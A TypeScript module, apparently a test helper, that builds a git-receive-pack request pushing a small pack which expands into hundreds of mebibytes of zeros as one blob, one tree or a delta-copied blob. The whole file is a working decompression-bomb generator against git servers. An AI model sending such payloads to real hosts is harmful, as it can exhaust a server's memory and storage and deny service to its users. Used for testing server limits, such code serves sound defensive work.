import { createHash, type Hash } from 'node:crypto';
import { createDeflate, deflateSync } from 'node:zlib';

/** What a small pack unpacks to: one large blob, one large tree, or a large blob by a delta of a few bytes. */
export type Bomb = 'blob' | 'tree' | 'delta';

const MIB = 1024 * 1024;
const ZEROS = Buffer.alloc(MIB);
const TYPES = { commit: 1, tree: 2, blob: 3 } as const;
const OFS_DELTA = 6;

/**
 * The body of a request to git-receive-pack that makes the branch `branch` of a pack with one object of so many MiB of zeros.
 * @see https://git-scm.com/docs/gitformat-pack
 */
export async function packBomb(kind: Bomb, mebibytes: number, branch: string): Promise<Buffer> {
  const size = mebibytes * MIB;
  const objects: Buffer[] = [];
  const large = idOfZeros(kind === 'tree' ? 'tree' : 'blob', mebibytes);
  if (kind === 'delta') {
    const base = whole('blob', ZEROS);
    const delta = copies(mebibytes);
    objects.push(base, header(OFS_DELTA, delta.length), offset(base.length), deflateSync(delta));
  } else {
    objects.push(header(TYPES[kind], size), await deflatedZeros(mebibytes));
  }
  const mode = kind === 'tree' ? '40000 folder' : '100644 bomb.bin';
  const tree = Buffer.concat([Buffer.from(`${mode}\0`), large]);
  const who = 'x <x@example.com> 1700000000 +0000';
  const commit = Buffer.from(`tree ${idOf('tree', tree).toString('hex')}\nauthor ${who}\ncommitter ${who}\n\nbomb\n`);
  const count = kind === 'delta' ? 4 : 3;
  const head = Buffer.alloc(12);
  head.write('PACK');
  head.writeUInt32BE(2, 4);
  head.writeUInt32BE(count, 8);
  const pack = Buffer.concat([head, ...objects, whole('tree', tree), whole('commit', commit)]);
  const checksum = createHash('sha1').update(pack).digest();
  const line = `${'0'.repeat(40)} ${idOf('commit', commit).toString('hex')} refs/heads/${branch}\0 report-status`;
  const command = `${(line.length + 4).toString(16).padStart(4, '0')}${line}0000`;
  return Buffer.concat([Buffer.from(command), pack, checksum]);
}

function startOf(type: keyof typeof TYPES, size: number): Hash {
  return createHash('sha1').update(`${type} ${size}\0`);
}

function idOf(type: keyof typeof TYPES, data: Buffer): Buffer {
  return startOf(type, data.length).update(data).digest();
}

function idOfZeros(type: keyof typeof TYPES, mebibytes: number): Buffer {
  const hash = startOf(type, mebibytes * MIB);
  for (let count = 0; count < mebibytes; count++) hash.update(ZEROS);
  return hash.digest();
}

function whole(type: keyof typeof TYPES, data: Buffer): Buffer {
  return Buffer.concat([header(TYPES[type], data.length), deflateSync(data)]);
}

async function deflatedZeros(mebibytes: number): Promise<Buffer> {
  const stream = createDeflate({ level: 9 });
  const chunks: Buffer[] = [];
  stream.on('data', (chunk: Buffer) => chunks.push(chunk));
  const ended = new Promise((resolve) => stream.once('end', resolve));
  for (let count = 0; count < mebibytes; count++) {
    if (!stream.write(ZEROS)) await new Promise((resolve) => stream.once('drain', resolve));
  }
  stream.end();
  await ended;
  return Buffer.concat(chunks);
}

/** Type and size in front of an object of a pack. */
function header(type: number, size: number): Buffer {
  const bytes: number[] = [];
  let byte = (type << 4) | (size & 15);
  for (let rest = Math.floor(size / 16); rest > 0; rest = Math.floor(rest / 128)) {
    bytes.push(byte | 0x80);
    byte = rest & 0x7f;
  }
  return Buffer.from([...bytes, byte]);
}

/** How far back the base of a delta begins. */
function offset(distance: number): Buffer {
  const bytes = [distance & 0x7f];
  for (let rest = distance >> 7; rest > 0; rest >>= 7) bytes.unshift(0x80 | (--rest & 0x7f));
  return Buffer.from(bytes);
}

function sizeOf(size: number): number[] {
  const bytes: number[] = [];
  let rest = size;
  for (; rest > 0x7f; rest = Math.floor(rest / 128)) bytes.push((rest & 0x7f) | 0x80);
  return [...bytes, rest];
}

/** A delta that copies its base of 1 MiB so many times. */
function copies(times: number): Buffer {
  // Copy from offset 0 (no bytes of it) a size of which the third byte is 0x10.
  const copy = [0x80 | 0x40, 0x10];
  return Buffer.from([...sizeOf(MIB), ...sizeOf(times * MIB), ...Array<number[]>(times).fill(copy).flat()]);
}
